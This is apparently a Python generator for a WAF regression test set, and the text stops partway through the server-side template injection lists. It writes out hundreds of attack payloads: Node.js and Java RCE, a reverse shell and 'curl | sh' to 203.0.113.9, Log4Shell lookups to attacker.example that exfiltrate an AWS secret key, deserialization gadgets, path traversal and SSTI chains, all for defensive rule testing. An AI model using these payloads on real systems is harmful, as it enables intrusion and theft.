"""Blind regression set "seventysecond": for each detection title of the generic (Node.js, SSRF, prototype
pollution, Ruby, Perl, DoS, data: scheme), PHP-wrapper, LFI and Java families, and for the server-side template
engines, the attacks the title names, written as a careful regression-suite author writes them.

Angle: per title (one kebab-case sub-family each) the canonical attack, one payload per alternative in the family
(every keyword, function, class, tag, scheme, file or dialect the author knows), then the variants a good rule must
still catch (quoting, casing, whitespace and comment substitutes, concatenation, encodings a server decodes); 8 to
12 payloads per title.

Families and sub-families:
- generic: nodejs-injection (CRS 3.3.4 934100), nodejs-injection-1-of-2 (module and process access),
  nodejs-injection-2-of-2 (code construction and evaluation), nodejs-dos, prototype-pollution,
  ssrf-cloud-metadata, ssrf-ip-address, ruby-injection, perl-injection, php-data-scheme.
- php: php-wrapper-scheme, php-variable-function.
- lfi: os-file-access-headers, path-traversal.
- java: java-class-rce (944100), java-process-spawn (944110), java-serialization-gadget (944120),
  java-class-suspicious (944130), java-magic-bytes (944200), java-magic-bytes-base64 (944210),
  java-serialization-functors (944240), java-method-suspicious (944250), java-method-expression (the later
  "Suspicious Java method detected"), java-log4shell, java-class-loading, java-jsp-upload.
- ssti: one sub-family per template engine (Jinja2, Twig, Smarty, Blade, FreeMarker, Velocity, Thymeleaf,
  Java EL, Pebble, Jinjava, Groovy, Mako, Tornado, Django, ERB, Handlebars, Pug, EJS, Nunjucks, lodash/doT,
  Go templates, Razor).

Placements (each payload in ONE place; each title's payloads spread over all six): a browser's search query
(GET /api/users?q=..&page=..&per_page=.., parameters in varied order, form-encoded as a browser encodes them),
the admin search form (POST /admin/users/search, csrf_token and q), JSON (a field of POST /api/users, or the
text of a Slack event_callback after a user's lead-in, with a made-up signature an attacker cannot do better
than), a path segment (GET /api/users/<payload> or /api/<payload>, percent-encoded where a request line needs
it), a header (the whole User-Agent mostly, else the whole Referer or a cookie value), and about one in ten on
PATCH /api/users/42 (JSON) or POST /me/settings (form). Every request carries the headers a current browser
sends (User-Agent, Accept, Accept-Language, Accept-Encoding, a Referer on https://app.example.com/, Sec-Fetch-*,
a Cookie with a session token and a consent cookie). Raw Java serialization bytes travel percent-encoded as
single bytes (the form a client sends binary in a URL or form), in a JSON string as its code points.
The benign half uses the same six places with innocent values carrying the same words (developer chat about
Java, Node.js, templates and cloud metadata, bios, searches, names, addresses, documentation links, real
clients' User-Agents, settings).

Authorship and independence: written from general knowledge of each attack family and the detection titles
alone (no rule, ruleset regression test or public payload list was read), measured once through the real stack
on unchanged code, and not changed after the measurement. Deterministic: all variety comes from seeded
random.Random instances.
"""

from __future__ import annotations

import base64
import gzip
import json
import random
import struct
import urllib.parse
from collections.abc import Iterator
from typing import Any

from .records import print_records, slack_escape

NAME = "seventysecond"

# --- Java serialization streams, built byte by byte (a client sends them as bytes) ---------------------------


def _utf(s: str) -> bytes:
    raw = s.encode()
    return struct.pack(">H", len(raw)) + raw


def _class_desc(name: str, uid: int, fields: list[tuple[str, str, str]]) -> bytes:
    """TC_CLASSDESC with SC_SERIALIZABLE and the given (typecode, name, class-signature) fields."""
    out = b"r" + _utf(name) + struct.pack(">q", uid) + b"\x02" + struct.pack(">H", len(fields))
    for code, fname, sig in fields:
        out += code.encode() + _utf(fname)
        if sig:
            out += b"t" + _utf(sig)
    return out + b"xp"


MAGIC = b"\xac\xed\x00\x05"
SER_HASHMAP = (MAGIC + b"s" + b"r" + _utf("java.util.HashMap") + bytes.fromhex("0507dac1c31660d1") + b"\x03"
               + struct.pack(">H", 2) + b"F" + _utf("loadFactor") + b"I" + _utf("threshold") + b"xp"
               + b"?@\x00\x00\x00\x00\x00\x0cw\x08\x00\x00\x00\x10\x00\x00\x00\x01t" + _utf("role")
               + b"t" + _utf("admin") + b"x")
SER_STRING = MAGIC + b"t" + _utf("test")
SER_INVOKER = MAGIC + b"s" + _class_desc(
    "org.apache.commons.collections.functors.InvokerTransformer", -8653385846894047688,
    [("[", "iArgs", "[Ljava/lang/Object;"), ("L", "iMethodName", "Ljava/lang/String;"),
     ("[", "iParamTypes", "[Ljava/lang/Class;")])
SER_OBJARRAY = MAGIC + b"ur" + _utf("[Ljava.lang.Object;") + bytes.fromhex("90ce589f1073296c") + b"\x02\x00\x00xp" \
    + b"\x00\x00\x00\x02t" + _utf("getRuntime") + b"t" + _utf("exec")
SER_BLOCKDATA = MAGIC + b"w\x04\x00\x00\x00\x01"
SER_PRIORITYQ = MAGIC + b"s" + _class_desc("java.util.PriorityQueue", -7720805057305804111,
                                           [("I", "size", ""), ("L", "comparator", "Ljava/util/Comparator;")])
SER_REF = MAGIC + b"sq\x00~\x00\x02"


def _latin(raw: bytes) -> str:
    """Bytes as a str of code points 0-255 (sent percent-encoded byte for byte)."""
    return raw.decode("latin-1")


def _b64(raw: bytes) -> str:
    return base64.b64encode(raw).decode()


RAW_BINARY = {_latin(s) for s in (SER_HASHMAP, SER_STRING, SER_INVOKER, SER_OBJARRAY, SER_BLOCKDATA,
                                  SER_PRIORITYQ, SER_REF)}

NODE_B64 = _b64(b"require('child_process').exec('id')")
PHP_B64 = _b64(b"<?php system($_GET['c']); ?>")
PHP_B64_INFO = _b64(b"<?php phpinfo(); ?>")
PHP_B64_EVAL = _b64(b"<?php eval($_POST[0]); ?>")
PERL_HEX = b'system("id");'.hex()

# --- Payloads: (category, sub-family, payloads) ---------------------------------------------------------------

GENERIC: list[tuple[str, list[str]]] = [
    ("nodejs-injection", [
        "_$$ND_FUNC$$_function(){require('child_process').exec('id', function(e, o){ console.log(o) })}()",
        "require('child_process').execSync('cat /etc/passwd').toString()",
        "process.mainModule.require('child_process').spawnSync('id')",
        '{"rce":"_$$ND_FUNC$$_function (){ require(\'child_process\').exec(\'ls /\') }()"}',
        '{"__js_function":"function(){return require(\'child_process\').execSync(\'id\')}()"}',
        "global.process.mainModule.constructor._load('child_process').exec('whoami')",
        'require("child_process")["exec"]("id")',
        'require ( "child_process" ) . fork ( "/tmp/x.js" )',
        "require('child_'+'process').exec('id')",
        "require('\\x63hild_process').execFile('/bin/sh', ['-c', 'id'])",
        "process.binding('spawn_sync').spawn({file:'/bin/sh',args:['sh','-c','id'],stdio:[{type:'pipe',"
        "readable:true}]})",
        "require/**/('child_process').exec('id')",
    ]),
    ("nodejs-injection-1-of-2", [
        "process.mainModule.require('fs').readFileSync('/etc/passwd','utf8')",
        "import('child_process').then(cp=>cp.execSync('id'))",
        "module.require('child_process').exec('id')",
        "process.dlopen(module, '/tmp/evil.node')",
        "require('fs').writeFileSync('/app/public/x.js', 'pwned')",
        "require('net').connect(4444,'203.0.113.9',function(){this.pipe(require('child_process')"
        ".spawn('/bin/sh').stdin)})",
        "res.json(process.env)",
        "process['mainModule']['require']('child_process')['execSync']('id')",
        "process . mainModule . require ( 'os' ) . userInfo ( )",
        "this.process.kill(this.process.pid)",
        "new (require('worker_threads').Worker)(\"require('child_process').exec('id')\",{eval:true})",
        'process.mainModule.require("\\u0063hild_process").exec("id")',
    ]),
    ("nodejs-injection-2-of-2", [
        "this.constructor.constructor('return process')().mainModule.require('child_process').execSync('id')",
        "eval(String.fromCharCode(114,101,113,117,105,114,101,40,39,102,115,39,41))",
        "new Function('return this.process')().exit()",
        'Function("return process")().env',
        "setTimeout(\"require('child_process').exec('id')\", 0)",
        "setInterval('process.exit(1)', 100)",
        "require('vm').runInNewContext(\"this.constructor.constructor('return process')()\")",
        f"eval(Buffer.from('{NODE_B64}','base64').toString())",
        '[].constructor.constructor("return process")()',
        "(async()=>{}).constructor('return process')()",
        f"eval(atob('{_b64(b'process.exit()')}'))",
        "globalThis['ev'+'al']('process.exit()')",
    ]),
    ("nodejs-dos", [
        "while(true){}",
        "while(1);",
        "for(;;){}",
        "do{}while(true)",
        "while (true) { }",
        "for ( ; ; ) ;",
        "setInterval(function(){while(1){}},0)",
        "new Array(1e9).fill(0)",
        "'a'.repeat(2**30)",
        "while(!0){}",
        "(function f(){f()})()",
        "/(a+)+$/.test('aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!')",
    ]),
    ("prototype-pollution", [
        "__proto__[isAdmin]=true",
        '{"__proto__":{"isAdmin":true}}',
        "constructor[prototype][isAdmin]=true",
        '{"constructor":{"prototype":{"role":"admin"}}}',
        "__proto__.polluted=1",
        "constructor.prototype.shell=/proc/self/exe",
        "a[__proto__][toString]=x",
        "Object.prototype.isAdmin=true",
        '{"__proto__":{"outputFunctionName":"_x;process.mainModule.require(\'child_process\').execSync(\'id\');//"}}',
        "__pro__proto__to__[admin]=1",
        "%5F%5Fproto%5F%5F[admin]=1",
        '{"__\\u0070roto__":{"isAdmin":true}}',
    ]),
    ("ssrf-cloud-metadata", [
        "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
        "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token",
        "http://169.254.169.254/metadata/instance?api-version=2021-02-01",
        "http://100.100.100.200/latest/meta-data/ram/security-credentials/",
        "http://169.254.169.254/opc/v2/instance/",
        "http://169.254.170.2/v2/credentials/",
        "http://[fd00:ec2::254]/latest/meta-data/",
        "http://metadata.goog/computeMetadata/v1/project/project-id",
        "http://169.254.169.254/metadata/v1.json",
        "HTTP://METADATA.GOOGLE.INTERNAL/computeMetadata/v1/",
        "http://instance-data/latest/user-data",
        "http://2852039166/latest/meta-data/",
    ]),
    ("ssrf-ip-address", [
        "http://127.0.0.1:8080/admin",
        "http://10.0.0.5/internal/",
        "https://192.168.0.1/cgi-bin/luci",
        "http://2130706433/",
        "http://0177.0.0.01/",
        "http://0x7f.0x00.0x00.0x01/",
        "http://0x7f000001:6379/",
        "http://[::1]:22/",
        "http://[0:0:0:0:0:ffff:127.0.0.1]/",
        "gopher://172.16.0.3:6379/_FLUSHALL",
        "HTTP://127.1/server-status",
        "http://user@127.0.0.1:9200/_cat/indices",
    ]),
    ("ruby-injection", [
        "Kernel.system('id')",
        "%x(id)",
        "IO.popen('cat /etc/passwd').read",
        "Open3.capture2('id')",
        "instance_eval('`id`')",
        "Object.const_get(:Kernel).send(:system, 'id')",
        "open('|id').read",
        "Marshal.load(Base64.decode64(params[:d]))",
        "YAML.load(\"--- !ruby/object:Gem::Installer\\ni: x\")",
        "Process.spawn('sh -c id')",
        "ERB.new('<%= `id` %>').result",
        "Kernel . send :exec , 'id'",
    ]),
    ("perl-injection", [
        "open(F, '|/bin/sh -c id')",
        "qx{id}",
        "exec '/bin/sh'",
        "eval { system('id') }",
        '@{[ system "id" ]}',
        "use IO::Socket; $s=IO::Socket::INET->new('203.0.113.9:4444')",
        "perl -e 'print `id`'",
        "open(my $fh, '-|', 'ls /')",
        "print %ENV",
        f'eval pack("H*","{PERL_HEX}")',
        "s/x/`id`/e",
        "qx/cat \\/etc\\/passwd/",
    ]),
    ("php-data-scheme", [
        f"data://text/plain;base64,{PHP_B64}",
        "data://text/plain,<?php phpinfo();?>",
        "data:text/plain,<?php system('id');?>",
        f"data:;base64,{PHP_B64_INFO}",
        f"DATA://TEXT/PLAIN;BASE64,{PHP_B64}",
        f"data://application/x-httpd-php;base64,{PHP_B64_EVAL}",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        f"data://text/plain;charset=utf-8;base64,{PHP_B64}",
        f"data%3A%2F%2Ftext%2Fplain%3Bbase64%2C{urllib.parse.quote(PHP_B64, safe='')}",
        "data://text/plain,<?=`id`?>",
        f" data:text/plain;base64,{PHP_B64_EVAL}",
        "Data://text/plain,%3C%3Fphp%20system('id')%3B%3F%3E",
    ]),
]

PHP: list[tuple[str, list[str]]] = [
    ("php-wrapper-scheme", [
        "php://filter/convert.base64-encode/resource=config.php",
        "php://input",
        "phar://uploads/avatar.jpg/shell.php",
        "zip://uploads/backup.zip#shell.php",
        "expect://id",
        "compress.zlib:///etc/passwd",
        "compress.bzip2://uploads/x.bz2",
        "glob:///var/www/html/*.php",
        "rar://uploads/a.rar#x.php",
        "PHP://FILTER/read=string.rot13/resource=index.php",
        "php://filter/convert.iconv.UTF8.CSISO2022KR|convert.base64-encode/resource=php://temp",
        "php%3A%2F%2Ffilter%2Fresource%3D%2Fetc%2Fpasswd",
    ]),
    ("php-variable-function", [
        "$f='system';$f('id');",
        '"system"("id");',
        "('sys'.'tem')('id');",
        "['system'][0]('id');",
        "array('passthru')[0]('whoami');",
        "$_GET['a']($_GET['b']);",
        "${'_'.'GET'}['x']('id');",
        '"\\x73\\x79\\x73\\x74\\x65\\x6d"(\'id\');',
        "'sYsTeM'('id');",
        '("system")/*x*/("id");',
        "(chr(115).chr(121).chr(115).chr(116).chr(101).chr(109))('id');",
        "$x = 'pass'.'thru'; $x ('id');",
    ]),
]

LFI: list[tuple[str, list[str]]] = [
    ("os-file-access-headers", [
        "/etc/passwd",
        "/etc/shadow",
        "/proc/self/environ",
        "C:\\Windows\\win.ini",
        "c:/boot.ini",
        "/var/www/html/.htaccess",
        "WEB-INF/web.xml",
        "/root/.ssh/id_rsa",
        ".git/config",
        "C:\\WINDOWS\\System32\\drivers\\etc\\hosts",
        "%2fetc%2fpasswd",
        "/etc//./shadow",
    ]),
    ("path-traversal", [
        "../../../../etc/passwd",
        "..\\..\\..\\windows\\win.ini",
        "....//....//....//etc/passwd",
        "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
        "..%2f..%2f..%2fetc%2fpasswd",
        "%252e%252e%252fetc%252fpasswd",
        "..%c0%af..%c0%afetc/passwd",
        "/.../.../.../etc/passwd",
        "..;/..;/WEB-INF/web.xml",
        "..%5c..%5cboot.ini",
        "/static/../../../../etc/shadow",
        ".%2e/.%2e/.%2e/etc/hosts",
    ]),
]

XSTREAM_9805 = (
    '<map><entry><jdk.nashorn.internal.objects.NativeString><flags>0</flags><value class="com.sun.xml.internal.'
    'bind.v2.runtime.unmarshaller.Base64Data"><dataHandler><dataSource class="com.sun.xml.internal.ws.encoding.'
    'xml.XMLMessage$XmlDataSource"><is class="javax.crypto.CipherInputStream"><cipher class="javax.crypto.'
    'NullCipher"><serviceIterator class="javax.imageio.spi.FilterIterator"><iter class="javax.imageio.spi.'
    'FilterIterator"><iter class="java.util.Collections$EmptyIterator"/><next class="java.lang.ProcessBuilder">'
    '<command><string>touch</string><string>/tmp/pwn</string></command><redirectErrorStream>false'
    '</redirectErrorStream></next></iter></serviceIterator></cipher></is></dataSource></dataHandler></value>'
    '</jdk.nashorn.internal.objects.NativeString></entry></map>'
)

JAVA: list[tuple[str, list[str]]] = [
    ("java-class-rce", [
        'java.lang.Runtime.getRuntime().exec("id")',
        'new java.lang.ProcessBuilder("bash","-c","id").start()',
        'Class.forName("java.lang.UNIXProcess")',
        "java.lang.System.getenv()",
        'new javax.script.ScriptEngineManager().getEngineByName("nashorn").eval("java.lang.Runtime.getRuntime()'
        '.exec(\'id\')")',
        "java.lang.Thread.sleep(10000)",
        "java.lang.ClassLoader.getSystemClassLoader()",
        'JAVA.LANG.RUNTIME.getRuntime().exec("id")',
        'java . lang . Runtime . getRuntime ( ) . exec ( "id" )',
        'new java.io.FileOutputStream("/usr/local/tomcat/webapps/ROOT/x.jsp")',
        "new java.net.URLClassLoader(new java.net.URL[]{new java.net.URL(\"http://203.0.113.9/x.jar\")})",
        'java.lang.reflect.Method m = java.lang.Runtime.class.getMethod("exec", String.class)',
    ]),
    ("java-process-spawn", [
        XSTREAM_9805,
        "<java.lang.ProcessBuilder><command><string>id</string></command></java.lang.ProcessBuilder>",
        '<next class="java.lang.ProcessBuilder"><command><string>/bin/sh</string><string>-c</string>'
        "<string>id</string></command></next>",
        '<sorted-set><string>foo</string><dynamic-proxy><interface>java.lang.Comparable</interface><handler '
        'class="java.beans.EventHandler"><target class="java.lang.ProcessBuilder"><command><string>calc.exe'
        '</string></command></target><action>start</action></handler></dynamic-proxy></sorted-set>',
        'new java.lang.ProcessBuilder(new String[]{"cmd.exe","/c","whoami"}).start()',
        'java.lang.Runtime.getRuntime().exec("curl http://203.0.113.9/x|sh")',
        'ProcessBuilder pb = new ProcessBuilder("sh"); pb.start();',
        '<object class="java.lang.ProcessBuilder"><array class="java.lang.String" length="1"><void index="0">'
        '<string>id</string></void></array><void method="start"/></object>',
        '<void class="java.lang.Runtime" method="getRuntime"><void method="exec"><string>id</string></void></void>',
        'java.lang.ProcessBuilder ( "id" ) . start ( )',
        "<next class='java.lang.ProcessBuilder'><command><string>id</string></command></next>",
        '<next class="java.lang.&#80;rocessBuilder"><command><string>id</string></command></next>',
    ]),
    ("java-serialization-gadget", [
        "org.apache.commons.collections.functors.InvokerTransformer",
        "org.apache.commons.collections.functors.ChainedTransformer",
        "org.apache.commons.collections4.functors.InstantiateTransformer",
        "new ConstantTransformer(java.lang.Runtime.class)",
        "sun.reflect.annotation.AnnotationInvocationHandler",
        "org.apache.commons.collections.keyvalue.TiedMapEntry",
        "org.apache.commons.collections.map.LazyMap",
        "com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl",
        "org.codehaus.groovy.runtime.MethodClosure",
        "sr:org.apache.commons.collections.functors.InvokerTransformer",
        "org.apache.commons.collections4.comparators.TransformingComparator",
        "iTransformers[Lorg/apache/commons/collections/Transformer;",
    ]),
    ("java-class-suspicious", [
        '<java version="1.8" class="java.beans.XMLDecoder"><object class="java.lang.Runtime" method="getRuntime"/>'
        "</java>",
        'new bsh.Interpreter().eval("exec(\\"id\\")")',
        "new groovy.lang.GroovyShell().evaluate(\"'id'.execute()\")",
        'new javax.naming.InitialContext().lookup("ldap://203.0.113.9/x")',
        "com.sun.rowset.JdbcRowSetImpl",
        "org.mozilla.javascript.Context.enter()",
        "sun.misc.Unsafe.getUnsafe()",
        "javax.management.loading.MLet",
        '{"@class":"org.springframework.context.support.ClassPathXmlApplicationContext","configLocation":'
        '"http://203.0.113.9/x.xml"}',
        '["com.mchange.v2.c3p0.WrapperConnectionPoolDataSource",{"userOverridesAsString":"HexAsciiSerializedMap:'
        'aced00"}]',
        'new javax.el.ELProcessor().eval("\\"\\".getClass().forName(\\"java.lang.Runtime\\")")',
        '{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"rmi://203.0.113.9:1099/x","autoCommit":true}',
    ]),
    ("java-magic-bytes", [
        _latin(SER_HASHMAP),
        _latin(SER_STRING),
        _latin(SER_INVOKER),
        _latin(SER_OBJARRAY),
        _latin(SER_BLOCKDATA),
        SER_HASHMAP[:32].hex(),
        SER_INVOKER[:16].hex().upper(),
        "\\xac\\xed\\x00\\x05sr\\x00\\x11java.util.HashMap",
        "%AC%ED%00%05sr%00%11java.util.HashMap",
        "\\u00ac\\u00ed\\u0000\\u0005sr\\u0000\\u0011java.util.HashMap",
        _latin(SER_PRIORITYQ),
        _latin(SER_REF),
    ]),
    ("java-magic-bytes-base64", [
        _b64(SER_HASHMAP),
        _b64(SER_STRING),
        _b64(b"\x00" + SER_HASHMAP),
        _b64(b"\x00\x00" + SER_INVOKER),
        base64.urlsafe_b64encode(SER_INVOKER).decode(),
        urllib.parse.quote(_b64(SER_OBJARRAY), safe=""),
        _b64(gzip.compress(SER_HASHMAP, mtime=0)),
        _b64(SER_INVOKER),
        base64.encodebytes(SER_INVOKER).decode().strip(),
        _b64(_b64(SER_HASHMAP).encode()),
        _b64(SER_BLOCKDATA),
        "javax.faces.ViewState=" + _b64(SER_PRIORITYQ),
    ]),
    ("java-serialization-functors", [
        "org.apache.commons.collections.functors.CloneTransformer",
        "org.apache.commons.collections.functors.ForClosure",
        "org.apache.commons.collections.functors.InstantiateFactory",
        "org.apache.commons.collections.functors.PrototypeFactory$PrototypeCloneFactory",
        "org.apache.commons.collections.functors.PrototypeFactory$PrototypeSerializationFactory",
        "org.apache.commons.collections.functors.WhileClosure",
        'new InvokerTransformer("exec", new Class[]{String.class}, new Object[]{"id"})',
        "new InstantiateTransformer(new Class[]{Templates.class}, new Object[]{templates})",
        "org.apache.commons.beanutils.BeanComparator",
        "org.apache.commons.fileupload.disk.DiskFileItem",
        'new ChainedTransformer(new Transformer[]{new ConstantTransformer(Runtime.class), new InvokerTransformer('
        '"getMethod", new Class[]{String.class, Class[].class}, new Object[]{"getRuntime", new Class[0]})})',
        "ORG.APACHE.COMMONS.COLLECTIONS.FUNCTORS.INVOKERTRANSFORMER",
    ]),
    ("java-method-suspicious", [
        'Runtime.getRuntime().exec("id")',
        'Class.forName("java.lang.Runtime")',
        '"".getClass().forName("java.lang.Runtime").getMethod("getRuntime").invoke(null)',
        "clazz.getDeclaredConstructor().newInstance()",
        "m.setAccessible(true); m.invoke(obj)",
        "ObjectInputStream ois = new ObjectInputStream(in); ois.readObject();",
        'Thread.currentThread().getContextClassLoader().loadClass("Evil")',
        'System.getProperty("user.home")',
        "defineClass(bytes, 0, bytes.length)",
        '.getClass ( ) . forName ( "java.lang.System" )',
        '${"".getClass().forName("java.lang.Runtime")}',
        'getClass().getClassLoader().getResource("/")',
    ]),
    ("java-method-expression", [
        'T(java.lang.Runtime).getRuntime().exec("id")',
        "@java.lang.Runtime@getRuntime().exec('id')",
        "#{session.getClass().getClassLoader()}",
        'MethodHandles.lookup().findStatic(Runtime.class,"getRuntime",MethodType.methodType(Runtime.class))',
        'new ScriptEngineManager().getEngineByName("js").eval("1")',
        "java.lang.System.setSecurityManager(null)",
        "Unsafe.allocateInstance(Runtime.class)",
        'new ProcessBuilder().command("id").inheritIO().start()',
        'getMethod ("exec", String.class).invoke(rt, "id")',
        'getruntime().EXEC("id")',
        "java.lang.Runtime.class.getMethods()[6].invoke(null)",
        "%{(#rt=@java.lang.Runtime@getRuntime()).(#rt.exec('id'))}",
    ]),
    ("java-log4shell", [
        "${jndi:ldap://203.0.113.9:1389/Exploit}",
        "${jndi:rmi://203.0.113.9:1099/obj}",
        "${jndi:dns://dnslog.attacker.example/x}",
        "${jndi:ldaps://attacker.example/a}",
        "${${lower:j}${lower:n}${lower:d}${lower:i}:ldap://attacker.example/a}",
        "${${::-j}${::-n}${::-d}${::-i}:rmi://attacker.example/a}",
        "${${env:BARFOO:-j}ndi${env:BARFOO:-:}${env:BARFOO:-l}dap${env:BARFOO:-:}//attacker.example/a}",
        "${jndi:ldap://${env:AWS_SECRET_ACCESS_KEY}.oob.attacker.example/a}",
        "${${upper:j}ndi:iiop://attacker.example/a}",
        "$%7Bjndi:ldap://attacker.example/a%7D",
        "${j${k8s:k5:-ND}i${sd:k5:-:}ldap://attacker.example/a}",
        "${jndi:${lower:l}${lower:d}a${lower:p}://attacker.example/a}",
    ]),
    ("java-class-loading", [
        "class.module.classLoader.resources.context.parent.pipeline.first.pattern=%{c2}i",
        "class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp",
        "class.module.classLoader.resources.context.parent.pipeline.first.directory=webapps/ROOT",
        "class.module.classLoader.resources.context.parent.pipeline.first.prefix=tomcatwar",
        "class.module.classLoader.resources.context.parent.pipeline.first.fileDateFormat=",
        "class.classLoader.URLs[0]=jar:http://203.0.113.9/x.jar!/",
        "class['classLoader']['resources']['dirContext']['docBase']=//203.0.113.9/share",
        "class.classLoader.resources.dirContext.docBase=\\\\203.0.113.9\\share",
        "Class.Module.ClassLoader.Resources.Context.Parent.Pipeline.First.Pattern=x",
        "class[module][classLoader][resources][context][parent][pipeline][first][pattern]=x",
        "class.module.classLoader.DefaultAssertionStatus=true",
        "class%2Emodule%2EclassLoader%2Eresources%2Econtext%2Eparent%2Epipeline%2Efirst%2Epattern=x",
    ]),
    ("java-jsp-upload", [
        "shell.jsp",
        "cmd.jspx",
        "include.jspf",
        "avatar.png.jsp",
        "avatar.jsp%00.png",
        "avatar.jsp;.png",
        "SHELL.JSP",
        "x.jsp.",
        "webapps/ROOT/cmd.jsp",
        "report.jsw",
        'form-data; name="file"; filename="cmd.jsp"',
        "cmd.jsp::$DATA",
    ]),
]

SSTI: list[tuple[str, list[str]]] = [
    ("ssti-jinja2", [
        "{{7*7}}",
        "{{config.items()}}",
        "{{''.__class__.__mro__[1].__subclasses__()}}",
        "{{self._TemplateReference__context.cycler.__init__.__globals__.os.popen('id').read()}}",
        "{{lipsum.__globals__['os'].popen('id').read()}}",
        "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}",
        "{% for c in [].__class__.__base__.__subclasses__() %}{% if c.__name__=='catch_warnings' %}"
        "{{c()._module.__builtins__['__import__']('os').system('id')}}{% endif %}{% endfor %}",
        "{{request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f')}}",
        '{{ cycler.__init__.__globals__.os.popen("id").read() }}',
        "{{url_for.__globals__['current_app'].config}}",
        '{%print(lipsum|attr("__globals__"))%}',
        "{{namespace.__init__.__globals__.os.popen('id').read()}}",
    ]),
    ("ssti-twig", [
        "{{7*'7'}}",
        '{{_self.env.registerUndefinedFilterCallback("exec")}}{{_self.env.getFilter("id")}}',
        "{{['id']|filter('system')}}",
        "{{['cat /etc/passwd']|map('passthru')|join}}",
        "{{app.request.server.all|join(',')}}",
        "{{['id',0]|sort('system')}}",
        "{{[0]|reduce('system','id')}}",
        "{% set x = 'sys'~'tem' %}{{['id']|map(x)}}",
        '{{ _self.env.setCache("ftp://203.0.113.9:2121") }}{{ _self.env.loadTemplate("backdoor") }}',
        "{{ 'id'|filter('passthru') }}",
    ]),
    ("ssti-smarty", [
        "{$smarty.version}",
        "{php}echo `id`;{/php}",
        "{system('id')}",
        "{Smarty_Internal_Write_File::writeFile($SCRIPT_NAME,\"<?php passthru($_GET['c']); ?>\",self::clearConfig())}",
        "{if phpinfo()}{/if}",
        "{if system('cat /etc/passwd')}{/if}",
        '{fetch file="file:///etc/passwd"}',
        '{include file="/etc/passwd"}',
        '{passthru("id")}',
        '{system("id")|escape}',
    ]),
    ("ssti-blade", [
        "{{ system('id') }}",
        "{!! shell_exec('id') !!}",
        "@php system('id'); @endphp",
        "{{ phpinfo() }}",
        "{{ file_get_contents('/etc/passwd') }}",
        "{!! `id` !!}",
        "{{ \\Illuminate\\Support\\Facades\\Artisan::call('down') }}",
        "{{ exec ( 'whoami' ) }}",
    ]),
    ("ssti-freemarker", [
        "#{7*7}",
        '<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}',
        '${"freemarker.template.utility.Execute"?new()("id")}',
        '<#assign ob="freemarker.template.utility.ObjectConstructor"?new()>${ob("java.lang.ProcessBuilder","id")'
        '.start()}',
        '<#assign jse="freemarker.template.utility.JythonRuntime"?new()><@jse>import os;os.system("id")</@jse>',
        "${product.getClass().getProtectionDomain().getCodeSource().getLocation().toURI().resolve('/etc/passwd')"
        '.toURL().openStream().readAllBytes()?join(" ")}',
        "[#assign ex='freemarker.template.utility.Execute'?new()]${ex('id')}",
        "<#assign classloader=article.class.protectionDomain.classLoader>",
        '<#assign  ex = "freemarker.template.utility.Execute"?new( ) >${ ex( "cat /etc/passwd" ) }',
        "${obj?api.class.protectionDomain.classLoader}",
    ]),
    ("ssti-velocity", [
        "#set($x=7*7)$x",
        '#set($rt=$x.class.forName("java.lang.Runtime"))#set($ex=$rt.getRuntime().exec("id"))$ex.waitFor()',
        '$class.inspect("java.lang.Runtime").type.getRuntime().exec("id")',
        '#set($str=$class.inspect("java.lang.String").type)#set($chr=$class.inspect("java.lang.Character").type)'
        '#set($ex=$class.inspect("java.lang.Runtime").type.getRuntime().exec("whoami"))',
        "#foreach($i in [1..$out.available()])$str.valueOf($chr.toChars($out.read()))#end",
        "$request.getClass().getClassLoader()",
        '#set( $e = "" )${e.getClass().forName("java.lang.Runtime").getMethod("getRuntime",null).invoke(null,null)'
        '.exec("id")}',
        "#{set}($rt=$e.getClass().forName('java.lang.Runtime'))",
        '$e.getClass().forName("java.lang.Runtime")',
        "#evaluate(\"#set($x=$e.class.forName('java.lang.Runtime'))\")",
    ]),
    ("ssti-thymeleaf", [
        '__${T(java.lang.Runtime).getRuntime().exec("id")}__::.x',
        "${T(java.lang.Runtime).getRuntime().exec('id')}",
        "*{T(org.apache.commons.io.IOUtils).toString(T(java.lang.Runtime).getRuntime().exec('id').getInputStream())}",
        '__${new java.util.Scanner(T(java.lang.Runtime).getRuntime().exec("id").getInputStream()).next()}__::',
        "[[${T(java.lang.System).getenv()}]]",
        "[(${T(java.lang.Runtime).getRuntime().exec('id')})]",
        "th:text=\"${T(java.lang.Runtime).getRuntime().exec('id')}\"",
        "${#ctx.getClass().forName('java.lang.Runtime')}",
        '__${T (java.lang.Runtime).getRuntime().exec("id")}__',
        "${T(java.lang.Class).forName('java.lang.Runtime').getMethod('exec',''.class)}",
        "~{::__${7*7}__}",
    ]),
    ("ssti-java-el", [
        "${applicationScope}",
        "${pageContext.request.serverName}",
        "${facesContext.externalContext.sessionMap}",
        '#{"".getClass().forName("java.lang.Runtime").getMethod("getRuntime").invoke(null).exec("id")}',
        "${''.getClass().forName('javax.script.ScriptEngineManager').newInstance().getEngineByName('js')"
        ".eval('java.lang.Runtime.getRuntime().exec(\"id\")')}",
        "${initParam}",
        "#{request.getClass().getClassLoader()}",
        '${pageContext.servletContext.getResource("/WEB-INF/web.xml")}',
        '${"x".toString().getClass().forName("java.lang.System").getMethod("getenv").invoke(null)}',
        "#{T(java.lang.Runtime).getRuntime().exec(new String[]{'sh','-c','id'})}",
        '${ "" . getClass ( ) . forName ( "java.lang.Runtime" ) }',
    ]),
    ("ssti-pebble", [
        "{{ variable.getClass().forName('java.lang.Runtime').getRuntime().exec('id') }}",
        "{% set cmd = 'id' %}{% set bytes = (1).TYPE.forName('java.lang.Runtime').methods[6].invoke(null,null)"
        ".exec(cmd).inputStream.readAllBytes() %}{{ (1).TYPE.forName('java.lang.String').constructors[0]"
        ".newInstance(([bytes]).toArray()) }}",
        "{{ (1).TYPE.forName('java.lang.Runtime') }}",
        "{{ 'a'.getClass().forName('java.lang.System').getenv() }}",
        "{{ beans.get('environment').getProperty('spring.datasource.password') }}",
